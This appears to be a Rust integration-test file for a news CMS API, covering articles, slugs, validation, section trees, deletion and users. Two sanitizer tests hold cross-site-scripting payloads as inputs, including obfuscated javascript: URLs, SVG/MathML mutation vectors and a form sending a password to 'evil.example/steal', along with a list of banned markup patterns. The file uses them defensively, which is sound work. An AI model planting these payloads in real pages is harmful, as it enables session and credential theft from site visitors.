//! Write validation for each resource, slugs, sanitizing, tree rules and delete conflicts.

use actix_web::http::Method;
use actix_web::test::TestRequest;
use serde_json::{Value, json};

use crate::support::TestApp;
use crate::support::auth::article_body;

async fn editor(app: &TestApp) -> String {
    app.section("world-news", "World News", None);
    app.logged_in("editor").await.1
}

#[actix_web::test]
async fn an_editor_creates_publishes_and_reads_back_an_article() {
    let app = TestApp::new();
    let token = editor(&app).await;
    app.tag("pakistan", "Pakistan");
    app.tag("iran", "Iran");
    app.source("agencies", "Agencies", None);
    let body = json!({
        "headline": "Pakistan and Iran Announce De-escalation Agreement",
        "alternative_headline": "Pakistan and Iran Agree to De-Escalate",
        "summary": "Both agree.", "body": "<p>In a significant diplomatic development.</p>",
        "section": "world-news", "tags": ["pakistan", "iran"], "sources": ["agencies"],
        "status": "published", "published_at": "2026-05-31T10:00:00Z", "comments_enabled": true
    });
    let response = app.post_json("/api/v1/articles", Some(&token), body).await;
    let location = response.header("location").unwrap();
    assert_eq!(
        location,
        "/api/v1/articles/pakistan-and-iran-announce-de-escalation-agreement"
    );
    let created = response.json(201);
    assert_eq!(created["status"], "published");
    assert_eq!(created["tags"][1]["slug"], "iran");

    let public = app.get(&location).await.json(200);
    assert_eq!(
        public["headline"],
        "Pakistan and Iran Announce De-escalation Agreement"
    );
    assert_eq!(public["sources"][0]["name"], "Agencies");
    assert_eq!(public["published_at"], "2026-05-31T10:00:00Z");
}

#[actix_web::test]
async fn publishing_without_a_time_means_now_and_a_future_time_schedules() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let mut body = article_body("Now");
    body["status"] = json!("published");
    let now = app
        .post_json("/api/v1/articles", Some(&token), body)
        .await
        .json(201);
    assert_eq!(now["published_at"], "2026-06-01T12:00:00Z");

    let mut later = article_body("Later");
    later["status"] = json!("published");
    later["published_at"] = json!("2026-06-02T08:00:00Z");
    app.post_json("/api/v1/articles", Some(&token), later)
        .await
        .json(201);
    app.get("/api/v1/articles/later").await.problem(404);

    // A draft published by PATCH becomes public.
    app.post_json("/api/v1/articles", Some(&token), article_body("Draft first"))
        .await
        .json(201);
    app.get("/api/v1/articles/draft-first").await.problem(404);
    app.patch_json(
        "/api/v1/articles/draft-first",
        Some(&token),
        json!({"status": "published"}),
    )
    .await
    .json(200);
    app.get("/api/v1/articles/draft-first").await.json(200);
    // Clearing the time of a published article is refused, not guessed.
    let cleared = app
        .patch_json(
            "/api/v1/articles/draft-first",
            Some(&token),
            json!({"published_at": null}),
        )
        .await;
    assert_eq!(cleared.error_fields(422), ["published_at"]);
}

#[actix_web::test]
async fn patch_changes_only_what_it_names_and_null_clears() {
    let app = TestApp::new();
    let token = editor(&app).await;
    app.tag("a", "A");
    let mut body = article_body("Patch me");
    body["alternative_headline"] = json!("Alt");
    body["tags"] = json!(["a"]);
    app.post_json("/api/v1/articles", Some(&token), body)
        .await
        .json(201);
    let patched = app
        .patch_json(
            "/api/v1/articles/patch-me",
            Some(&token),
            json!({"alternative_headline": null, "summary": "S"}),
        )
        .await
        .json(200);
    assert_eq!(patched["alternative_headline"], Value::Null);
    assert_eq!(patched["summary"], "S");
    assert_eq!(patched["headline"], "Patch me");
    assert_eq!(patched["tags"][0]["slug"], "a");
    assert_eq!(patched["body"], "<p>Text</p>");
}

#[actix_web::test]
async fn malformed_article_bodies_get_400_and_bad_fields_422_naming_each() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let raw = |payload: &str| {
        TestRequest::post()
            .uri("/api/v1/articles")
            .insert_header(("Authorization", format!("Bearer {token}")))
            .insert_header(("Content-Type", "application/json"))
            .set_payload(payload.to_owned())
    };
    for payload in ["{", "not json", "{\"headline\": \"x\",}", "{} trailing", ""] {
        app.send(raw(payload)).await.problem(400);
    }
    let duplicate = app
        .send(raw(
            r#"{"headline": "a", "headline": "b", "section": "world-news"}"#,
        ))
        .await;
    assert_eq!(duplicate.error_fields(400), ["headline"]);

    let cases: Vec<(Value, Vec<&str>)> = vec![
        (json!({}), vec!["headline", "section"]),
        (
            json!({"headline": "x", "section": "world-news", "headlin": "typo"}),
            vec!["headlin"],
        ),
        (json!({"headline": 42, "section": "world-news"}), vec!["headline"]),
        (
            json!({"headline": "   ", "section": "world-news"}),
            vec!["headline"],
        ),
        (
            json!({"headline": "x".repeat(301), "section": "world-news"}),
            vec!["headline"],
        ),
        (
            json!({"headline": "x", "section": "world-news", "published_at": "yesterday"}),
            vec!["published_at"],
        ),
        (
            json!({"headline": "x", "section": "world-news", "status": "live"}),
            vec!["status"],
        ),
        (json!({"headline": "x", "section": "nowhere"}), vec!["section"]),
        (
            json!({"headline": "x", "section": "world-news", "tags": ["ok-tag", "missing"]}),
            vec!["tags[0]", "tags[1]"],
        ),
        (
            json!({"headline": "x", "section": "world-news", "tags": ["a", "a"]}),
            vec!["tags"],
        ),
        (
            json!({"headline": "x", "section": "world-news", "slug": "Not A Slug"}),
            vec!["slug"],
        ),
        (
            json!({"headline": "x", "section": "world-news", "slug": "12345"}),
            vec!["slug"],
        ),
        (
            json!({"headline": "x", "section": "world-news", "author_id": 999999}),
            vec!["author_id"],
        ),
        (
            json!({"headline": "line\u{0007}bell", "section": "world-news"}),
            vec!["headline"],
        ),
    ];
    for (body, fields) in cases {
        let response = app
            .post_json("/api/v1/articles", Some(&token), body.clone())
            .await;
        assert_eq!(response.error_fields(422), fields, "{body}");
    }
    let oversize = json!({"headline": "x", "section": "world-news", "body": "x".repeat(1_100_000)});
    app.post_json("/api/v1/articles", Some(&token), oversize)
        .await
        .problem(413);
    let text = app
        .send(raw("{}").insert_header(("Content-Type", "text/plain")))
        .await;
    text.problem(415);
    assert_eq!(
        app.get_as("/api/v1/articles?status=all&total=true", &token)
            .await
            .json(200)["meta"]["total"],
        0
    );
}

#[actix_web::test]
async fn slugs_are_generated_transliterated_deduplicated_and_protected() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let first = app
        .post_json(
            "/api/v1/articles",
            Some(&token),
            article_body("Café in Zürich Opens"),
        )
        .await
        .json(201);
    assert_eq!(first["slug"], "cafe-in-zurich-opens");
    let second = app
        .post_json(
            "/api/v1/articles",
            Some(&token),
            article_body("Café in Zürich opens!"),
        )
        .await
        .json(201);
    assert_eq!(second["slug"], "cafe-in-zurich-opens-2");
    let mut taken = article_body("Other");
    taken["slug"] = json!("cafe-in-zurich-opens");
    let conflict = app.post_json("/api/v1/articles", Some(&token), taken).await;
    assert_eq!(conflict.error_fields(409), ["slug"]);
    let moved = app
        .patch_json(
            "/api/v1/articles/cafe-in-zurich-opens-2",
            Some(&token),
            json!({"slug": "cafe-in-zurich-opens"}),
        )
        .await;
    assert_eq!(moved.error_fields(409), ["slug"]);
    let numeric = app
        .post_json("/api/v1/articles", Some(&token), article_body("2024"))
        .await
        .json(201);
    assert_eq!(numeric["slug"], "n-2024");
}

#[actix_web::test]
async fn slugs_made_unique_from_long_names_stay_within_120_characters() {
    let app = TestApp::new();
    let token = editor(&app).await;
    // 200 characters each: the first two agree on their first 120 and need a suffix to differ;
    // the last has no letter and needs the `n-` prefix too.
    let words = "Word ".repeat(39);
    let texts = [
        format!("{words}Alpha"),
        format!("{words}Beta!"),
        "2024 ".repeat(40).trim().to_owned(),
        "2024 ".repeat(40).trim().to_owned(),
    ];
    let mut articles = Vec::new();
    let mut tags = Vec::new();
    for text in &texts {
        let article = app
            .post_json("/api/v1/articles", Some(&token), article_body(text))
            .await
            .json(201);
        articles.push(article["slug"].as_str().unwrap().to_owned());
    }
    for text in &texts[..2] {
        let tag = app
            .post_json("/api/v1/tags", Some(&token), json!({"name": text}))
            .await
            .json(201);
        let slug = tag["slug"].as_str().unwrap().to_owned();
        app.get(&format!("/api/v1/tags/{slug}")).await.json(200);
        tags.push(slug);
    }
    for slug in articles.iter().chain(&tags) {
        assert!(slug.len() <= 120, "{} characters: {slug}", slug.len());
        assert!(!slug.ends_with('-') && !slug.contains("--"), "{slug}");
    }
    assert!(articles[1].ends_with("-2") && articles[3].ends_with("-2") && tags[1].ends_with("-2"));
    assert!(articles[2].starts_with("n-2024-"), "{}", articles[2]);
    let distinct: std::collections::HashSet<_> = articles.iter().collect();
    assert_eq!(distinct.len(), 4, "{articles:?}");
    assert_ne!(tags[0], tags[1]);
}

#[actix_web::test]
async fn hostile_html_is_sanitized_before_it_is_stored() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let mut body = article_body("Hostile");
    body["status"] = json!("published");
    body["body"] = json!(concat!(
        r#"<p onclick="steal()">Hello <script>alert(1)</script><a href="javascript:alert(1)">x</a></p>"#,
        r#"<img src="https://example.com/a.jpg" onerror="alert(1)" alt="a"><iframe src="https://evil.example"></iframe>"#,
        r#"<style>p{}</style><p style="color:red">styled</p><h2>Kept</h2><a href="https://example.com">link</a>"#
    ));
    app.post_json("/api/v1/articles", Some(&token), body)
        .await
        .json(201);
    let stored = app.get("/api/v1/articles/hostile").await.json(200)["body"]
        .as_str()
        .unwrap()
        .to_owned();
    for bad in [
        "<script",
        "onclick",
        "onerror",
        "javascript:",
        "<iframe",
        "<style",
        "style=",
    ] {
        assert!(!stored.contains(bad), "`{bad}` survived: {stored}");
    }
    for good in [
        "<h2>Kept</h2>",
        r#"href="https://example.com""#,
        r#"alt="a""#,
        "styled",
    ] {
        assert!(stored.contains(good), "`{good}` lost: {stored}");
    }
}

#[actix_web::test]
async fn disguised_script_urls_svg_math_forms_and_css_come_back_inert() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let mut body = article_body("Disguised");
    body["status"] = json!("published");
    body["body"] = json!(concat!(
        r#"<p><a href="JaVaScRiPt:alert(1)">a</a><a href="javascript&#58;alert(1)">b</a>"#,
        r#"<a href="java&#9;script:alert(1)">c</a><a href="vbscript:msgbox(1)">d</a>"#,
        r#"<a href="data:text/html;base64,PHNjcmlwdD4=">e</a><img src="data:image/png;base64,AAAA" alt="f"></p>"#,
        r#"<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">g</a></svg>"#,
        r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
        r#"<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">h</button></form>"#,
        r#"<p style="background:url(javascript:alert(1))">i</p><blockquote cite="javascript:alert(1)">j</blockquote>"#,
        r#"<p><a href="//evil.example/k">k</a><img src="//cdn.example/l.jpg" alt="l"><a href="/sections/world">m</a></p>"#,
    ));
    app.post_json("/api/v1/articles", Some(&token), body)
        .await
        .json(201);
    let stored = app.get("/api/v1/articles/disguised").await.json(200)["body"]
        .as_str()
        .unwrap()
        .to_owned();
    let lower = stored.to_ascii_lowercase();
    for live in [
        "javascript",
        "vbscript",
        "data:",
        "<svg",
        "<math",
        "<form",
        "<input",
        "<button",
        "<style",
        "style=",
        "onload",
        "onerror",
        "action=",
        "xlink",
        "url(",
        r#"="//"#,
    ] {
        assert!(!lower.contains(live), "`{live}` survived: {stored}");
    }
    for kept in [
        r#"href="https://evil.example/k""#,
        r#"src="https://cdn.example/l.jpg""#,
        r#"href="/sections/world""#,
        "<blockquote>j</blockquote>",
    ] {
        assert!(stored.contains(kept), "`{kept}` lost: {stored}");
    }
}

#[actix_web::test]
async fn sections_move_in_the_tree_but_never_into_a_cycle() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let news = app
        .post_json("/api/v1/sections", Some(&token), json!({"name": "News"}))
        .await
        .json(201);
    assert_eq!(news["slug"], "news");
    app.post_json(
        "/api/v1/sections",
        Some(&token),
        json!({"name": "Asia", "parent": "world-news"}),
    )
    .await
    .json(201);
    app.post_json(
        "/api/v1/sections",
        Some(&token),
        json!({"name": "South Asia", "parent": "asia"}),
    )
    .await
    .json(201);

    let moved = app
        .patch_json(
            "/api/v1/sections/world-news",
            Some(&token),
            json!({"parent": "news"}),
        )
        .await
        .json(200);
    assert_eq!(moved["breadcrumb"][0]["slug"], "news");
    for target in ["world-news", "asia", "south-asia"] {
        let cycle = app
            .patch_json(
                "/api/v1/sections/world-news",
                Some(&token),
                json!({"parent": target}),
            )
            .await;
        assert_eq!(cycle.error_fields(409), ["parent"], "under {target}");
    }
    let top = app
        .patch_json(
            "/api/v1/sections/world-news",
            Some(&token),
            json!({"parent": null}),
        )
        .await
        .json(200);
    assert_eq!(top["parent"], Value::Null);
    let unknown = app
        .patch_json(
            "/api/v1/sections/asia",
            Some(&token),
            json!({"parent": "nowhere"}),
        )
        .await;
    assert_eq!(unknown.error_fields(422), ["parent"]);
    let taken = app
        .post_json(
            "/api/v1/sections",
            Some(&token),
            json!({"name": "x", "slug": "asia"}),
        )
        .await;
    assert_eq!(taken.error_fields(409), ["slug"]);
    let missing = app
        .post_json(
            "/api/v1/sections",
            Some(&token),
            json!({"description": "no name"}),
        )
        .await;
    assert_eq!(missing.error_fields(422), ["name"]);
}

/// Two moves that are each fine alone (Sport under News, News under Sport) must not both pass:
/// the second is checked against the tree the first committed, and refused.
#[actix_web::test]
async fn a_move_checked_while_another_move_commits_never_makes_a_cycle() {
    use dateline::db::schema::sections;
    use diesel::prelude::*;

    let app = TestApp::new();
    let token = editor(&app).await;
    let news = app.section("news", "News", None);
    app.section("sport", "Sport", None);
    let pool = app.pool().clone();
    let (moved, move_done) = std::sync::mpsc::channel();
    // The first move (Sport under News) holds its transaction open while the second is asked.
    let first = std::thread::spawn(move || {
        let mut conn = pool.get().expect("connection");
        conn.transaction(|conn| {
            diesel::update(sections::table.filter(sections::slug.eq("sport")))
                .set(sections::parent_id.eq(Some(news)))
                .execute(conn)?;
            moved.send(()).expect("signal");
            std::thread::sleep(std::time::Duration::from_millis(400));
            Ok::<_, diesel::result::Error>(())
        })
    });
    move_done.recv().expect("the first move ran");
    let second = app
        .patch_json("/api/v1/sections/news", Some(&token), json!({"parent": "sport"}))
        .await;
    first.join().expect("first move").expect("committed");
    assert_eq!(second.error_fields(409), ["parent"]);
    let news = app.get("/api/v1/sections/news").await.json(200);
    assert_eq!(news["parent"], Value::Null, "{news}");
    let sport = app.get("/api/v1/sections/sport").await.json(200);
    assert_eq!(sport["breadcrumb"][0]["slug"], "news", "{sport}");
    // Naming the parent it already has moves nothing, and is no cycle.
    let stays = app
        .patch_json(
            "/api/v1/sections/sport",
            Some(&token),
            json!({"parent": "news", "name": "Sports"}),
        )
        .await
        .json(200);
    assert_eq!(stays["breadcrumb"][0]["slug"], "news", "{stays}");
    assert_eq!(stays["name"], "Sports");
}

#[actix_web::test]
async fn sections_tags_and_sources_in_use_cannot_be_deleted() {
    let app = TestApp::new();
    let token = editor(&app).await;
    app.section("asia", "Asia", Some("world-news"));
    app.article("in-asia")
        .section("asia")
        .tags(&["iran"])
        .sources(&["agencies"])
        .create();

    let with_child = app
        .call(Method::DELETE, "/api/v1/sections/world-news", Some(&token))
        .await;
    let problem = with_child.problem(409);
    assert!(problem["detail"].as_str().unwrap().contains("asia"));
    assert_eq!(
        problem["errors"][0],
        json!({"field": "children", "code": "in_use", "message": "asia"})
    );
    for uri in [
        "/api/v1/sections/asia",
        "/api/v1/tags/iran",
        "/api/v1/sources/agencies",
    ] {
        let in_use = app.call(Method::DELETE, uri, Some(&token)).await.problem(409);
        assert_eq!(in_use["errors"][0]["message"], "in-asia", "{uri}");
    }
    // A trashed article still holds its section, tags and sources: nothing is lost by accident.
    assert_eq!(
        app.call(Method::DELETE, "/api/v1/articles/in-asia", Some(&token))
            .await
            .status,
        204
    );
    app.call(Method::DELETE, "/api/v1/sections/asia", Some(&token))
        .await
        .problem(409);
    app.clock.advance(chrono::Duration::days(31));
    let (_, admin) = app.logged_in("admin").await;
    let purged = app
        .call(Method::POST, "/api/v1/trash/purge", Some(&admin))
        .await
        .json(200);
    assert_eq!(purged["purged"], 1);
    for uri in [
        "/api/v1/sections/asia",
        "/api/v1/tags/iran",
        "/api/v1/sources/agencies",
        "/api/v1/sections/world-news",
    ] {
        assert_eq!(
            app.call(Method::DELETE, uri, Some(&admin)).await.status,
            204,
            "{uri}"
        );
    }
    app.call(Method::DELETE, "/api/v1/tags/iran", Some(&admin))
        .await
        .problem(404);
}

#[actix_web::test]
async fn tags_and_sources_are_validated() {
    let app = TestApp::new();
    let token = editor(&app).await;
    let tag = app
        .post_json("/api/v1/tags", Some(&token), json!({"name": "Counter-terrorism"}))
        .await
        .json(201);
    assert_eq!(tag["slug"], "counter-terrorism");
    let renamed = app
        .patch_json(
            "/api/v1/tags/counter-terrorism",
            Some(&token),
            json!({"slug": "ct", "description": "About CT"}),
        )
        .await
        .json(200);
    assert_eq!(
        (renamed["slug"].as_str(), renamed["description"].as_str()),
        (Some("ct"), Some("About CT"))
    );
    let bad_url = app
        .post_json(
            "/api/v1/sources",
            Some(&token),
            json!({"name": "X", "url": "javascript:alert(1)"}),
        )
        .await;
    assert_eq!(bad_url.error_fields(422), ["url"]);
    let no_name = app
        .post_json("/api/v1/tags", Some(&token), json!({"name": ""}))
        .await;
    assert_eq!(no_name.error_fields(422), ["name"]);
    let unknown = app
        .post_json(
            "/api/v1/sources",
            Some(&token),
            json!({"name": "X", "website": "y"}),
        )
        .await;
    assert_eq!(unknown.error_fields(422), ["website"]);
    app.patch_json("/api/v1/tags/nothing", Some(&token), json!({"name": "x"}))
        .await
        .problem(404);
}

#[actix_web::test]
async fn users_are_validated_and_the_last_admin_is_kept() {
    let app = TestApp::new();
    let (admin_id, admin) = app.logged_in("admin").await;
    let cases = [
        (
            json!({"email": "not-an-email", "display_name": "X", "role": "author", "password": "long enough password"}),
            vec!["email"],
        ),
        (
            json!({"email": "a@example.com", "display_name": "X", "role": "author", "password": "short"}),
            vec!["password"],
        ),
        (
            json!({"email": "a@example.com", "display_name": "X", "role": "chief", "password": "long enough password"}),
            vec!["role"],
        ),
        (
            json!({"email": "a@example.com"}),
            vec!["display_name", "password", "role"],
        ),
    ];
    for (body, fields) in cases {
        assert_eq!(
            app.post_json("/api/v1/users", Some(&admin), body.clone())
                .await
                .error_fields(422),
            fields,
            "{body}"
        );
    }
    let body = json!({"email": "Jane@Example.com", "display_name": "Jane", "role": "editor", "password": "long enough password"});
    let created = app
        .post_json("/api/v1/users", Some(&admin), body.clone())
        .await
        .json(201);
    assert_eq!(created["email"], "jane@example.com");
    assert!(created.get("password_hash").is_none());
    assert_eq!(
        app.post_json("/api/v1/users", Some(&admin), body)
            .await
            .error_fields(409),
        ["email"]
    );
    let login = json!({"email": "jane@example.com", "password": "long enough password"});
    app.post_json("/api/v1/auth/login", None, login).await.json(200);

    let me = format!("/api/v1/users/{admin_id}");
    app.patch_json(&me, Some(&admin), json!({"role": "editor"}))
        .await
        .problem(409);
    app.patch_json(&me, Some(&admin), json!({"active": false}))
        .await
        .problem(409);
    app.call(Method::DELETE, &me, Some(&admin)).await.problem(409);
    app.get_as("/api/v1/users/999999", &admin).await.problem(404);
    assert_eq!(
        app.get_as("/api/v1/users/abc", &admin).await.error_fields(400),
        ["path"]
    );
    assert_eq!(
        app.get_as("/api/v1/users", &admin).await.json(200)["meta"]["total"],
        2
    );
}

#[actix_web::test]
async fn bodies_must_be_json_objects() {
    let app = TestApp::new();
    let token = editor(&app).await;
    for body in [
        json!([]),
        json!(["headline"]),
        json!("text"),
        json!(42),
        json!(null),
    ] {
        let response = app.post_json("/api/v1/tags", Some(&token), body.clone()).await;
        assert_eq!(response.error_fields(422), ["body"], "{body}");
    }
}
